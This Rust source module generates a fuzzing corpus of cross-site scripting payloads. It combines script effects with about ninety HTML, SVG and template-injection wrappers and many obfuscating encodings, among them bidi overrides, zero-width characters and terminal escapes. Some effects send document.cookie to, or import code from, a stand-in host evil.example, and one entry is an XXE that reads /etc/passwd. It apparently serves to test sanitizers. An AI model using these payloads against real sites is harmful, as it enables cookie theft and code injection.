//! Texts that attack whoever draws them: made of templates, what they hide in, and how they are written. Our own list.

use super::Dice;

/// What runs when it is not text.
const EFFECTS: &[&str] = &[
    "alert(1)",
    "alert`1`",
    "window.__pwned=1",
    "eval(name)",
    "location='javascript:alert(1)'",
    "fetch('https://evil.example/'+document.cookie)",
    "import('https://evil.example/x.js')",
    "parent.postMessage(1,'*')",
    "(()=>{throw onerror=alert,1})()",
    "[].constructor.constructor('alert(1)')()",
    "self['al'+'ert'](1)",
    "setTimeout('ale'+'rt(1)')",
];

/// Where it hides; `$` is the effect.
const HIDES: &[&str] = &[
    "<script>$</script>",
    "<ScRiPt>$</sCrIpT>",
    "<script src=data:text/javascript,$></script>",
    "</title><script>$</script>",
    "</textarea><script>$</script>",
    "</style><script>$</script>",
    "<img src=x onerror=$>",
    "<img src=x onerror=\"$\">",
    "<img/src=x/onerror=$>",
    "<img src=x:$ onerror=eval(src)>",
    "<img srcset=x onerror=$>",
    "<svg onload=$>",
    "<svg/onload=$>",
    "<svg><script>$</script></svg>",
    "<svg><a xlink:href=javascript:$><text y=1em>x</text></a></svg>",
    "<svg><animate onbegin=$ attributeName=x dur=1s>",
    "<svg><set onbegin=$ attributeName=x>",
    "<svg><foreignObject><iframe srcdoc='<script>$</script>'></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=$>#x\"></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=$></style></mglyph></table></mtext></math>",
    "<math href=javascript:$>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=$>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$>",
    "<svg></p><style><a id=\"</style><img src=x onerror=$>\">",
    "<template><script>$</script></template>",
    "<template shadowrootmode=open><script>$</script></template>",
    "<iframe src=javascript:$>",
    "<iframe srcdoc=\"&lt;script&gt;$&lt;/script&gt;\">",
    "<object data=javascript:$>",
    "<embed src=javascript:$>",
    "<a href=javascript:$>x</a>",
    "<a href=\"java\tscript:$\">x</a>",
    "<a href=\"\u{1}javascript:$\">x</a>",
    "<a href=JaVaScRiPt:$>x</a>",
    "<a href=data:text/html,<script>$</script>>x</a>",
    "<form action=javascript:$><button>x</button></form>",
    "<button formaction=javascript:$>x</button>",
    "<input autofocus onfocus=$>",
    "<select autofocus onfocus=$>",
    "<details open ontoggle=$>",
    "<video><source onerror=$>",
    "<audio src=x onerror=$>",
    "<body onload=$>",
    "<marquee onstart=$>",
    "<div style=\"animation:x\" onanimationstart=$>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationend=$>",
    "<p style=\"background:url(javascript:$)\">",
    "<link rel=stylesheet href=javascript:$>",
    "<link rel=import href=data:text/html,<script>$</script>>",
    "<base href=javascript:$//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:$\">",
    "<object type=text/x-scriptlet data=https://evil.example>",
    "<wallet-modal onclick=$></wallet-modal>",
    "<slot onslotchange=$></slot>",
    "<dialog open onclose=$>",
    "<x contenteditable onbeforeinput=$>",
    "<p popover id=x onbeforetoggle=$>",
    "javascript:$",
    "javascript://%0a$",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:$",
    "blob:https://evil.example/$",
    "\" onmouseover=\"$",
    "' onmouseover='$",
    "` onmouseover=`$",
    "\"><script>$</script>",
    "'-$-'",
    "\\\"-$//",
    "</script><script>$</script>",
    "{{constructor.constructor('$')()}}",
    "${$}",
    "#{$}",
    "<%= $ %>",
    "[[$]]",
    "{\"__html\":\"<img src=x onerror=$>\"}",
    "{\"$$typeof\":\"Symbol(react.element)\",\"type\":\"script\"}",
    "__proto__[onerror]=$",
    "constructor.prototype.onload=$",
    "<!--><img src=x onerror=$>-->",
    "<!--[if gte IE 4]><script>$</script><![endif]-->",
    "<![CDATA[<script>$</script>]]>",
    "<?xml-stylesheet href=javascript:$?>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><x>&x;</x>",
    "<plaintext><script>$</script>",
    "<xmp><script>$</script></xmp>",
    "<listing>&lt;img onerror=$ src=x&gt;</listing>",
    "expression($)",
    "@import'javascript:$';",
    "};$;{",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=$ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=$//>\\x3e",
];

/// How it is written.
const WRITINGS: &[fn(&str, &Dice) -> String] = &[
    |text, _| text.into(),
    |text, _| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text, _| text.replace('<', "&#60;").replace('>', "&#x3e"),
    |text, _| text.replace('<', "\\u003c").replace('>', "\\x3e"),
    |text, _| text.replace('<', "%3C").replace('>', "%3E"),
    |text, _| text.replace('<', "%253C"),
    // brackets of other scripts, which some composing makes of plain ones
    |text, _| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
    |text, _| text.replace('<', "\u{fe64}").replace('>', "\u{fe65}"),
    |text, _| text.replace('<', "<\u{338}"),
    |text, _| text.replace('s', "\u{17f}").replace('k', "\u{212a}"),
    // something invisible between the letters
    |text, _| text.chars().flat_map(|c| [c, '\u{200b}']).collect(),
    |text, _| text.replace("script", "scr\u{ad}ipt").replace("on", "o\u{200d}n"),
    |text, _| text.replace(' ', "\u{0}").replace("javascript", "java\u{0}script"),
    |text, _| text.replace(' ', "\u{c}").replace('<', "<\u{2060}"),
    |text, _| format!("\u{202e}{}\u{202c}", text.chars().rev().collect::<String>()),
    |text, _| format!("\u{2067}{text}\u{2069}\u{200f}"),
    |text, _| {
        text.chars()
            .map(|c| if c.is_ascii_graphic() { char::from_u32(0xe0000 + u32::from(c)).unwrap() } else { c })
            .collect()
    },
    |text, _| format!("Tether\u{202e}{text}"),
    |text, _| format!("{text}\u{2028}{text}\u{2029}\u{85}"),
    |text, _| format!("{}{text}", "\u{301}\u{334}\u{489}".repeat(40)),
    |text, _| text.chars().flat_map(|c| [c, '\u{308}', '\u{20dd}', '\u{fe0f}', '\u{301}']).collect(),
    |text, _| format!("\u{feff}{text}\u{fffe}\u{ffff}\u{1fffe}"),
    |text, _| format!("{text}{}", "\u{3164}\u{2800}\u{115f}".repeat(200)),
    |text, _| format!("\r\n\t {text} \u{a0}\r\n"),
    |text, _| format!("\u{1b}]8;;javascript:alert(1)\u{7}{text}\u{1b}]8;;\u{7}\u{9b}31m"),
    |text, _| format!("{}{text}", "A".repeat(500)),
    |text, _| text.to_uppercase(),
    // cut where it hurts, doubled, and folded into itself
    |text, dice| text.chars().take(1 + dice.below(text.chars().count())).collect(),
    |text, dice| {
        let at = dice.below(text.chars().count());
        text.chars().enumerate().flat_map(|(n, c)| if n == at { vec![c, '<'] } else { vec![c] }).collect()
    },
    |text, dice| {
        let letters: Vec<char> = text.chars().collect();
        let hidden = [
            '\u{200b}',
            '\u{202d}',
            '\u{2066}',
            '\u{0}',
            '\u{7f}',
            '\u{61c}',
            '\u{fdd0}',
            '\u{e0041}',
            '\u{180e}',
            '\u{fff9}',
        ];
        letters
            .iter()
            .flat_map(|c| if dice.below(3) == 0 { vec![*c, *dice.of(&hidden)] } else { vec![*c] })
            .collect()
    },
];

/// Each template in each writing in turn, each time with another effect.
pub fn payloads(count: usize) -> Vec<String> {
    let dice = Dice::new("corpus");
    let of = |turn: usize| {
        let hide = HIDES[turn % HIDES.len()];
        // every writing meets every template before a pair comes again
        let writing = WRITINGS[(turn + turn / HIDES.len()) % WRITINGS.len()];
        writing(&hide.replace('$', dice.of::<&str>(EFFECTS)), &dice)
    };
    (0..count).map(of).collect()
}
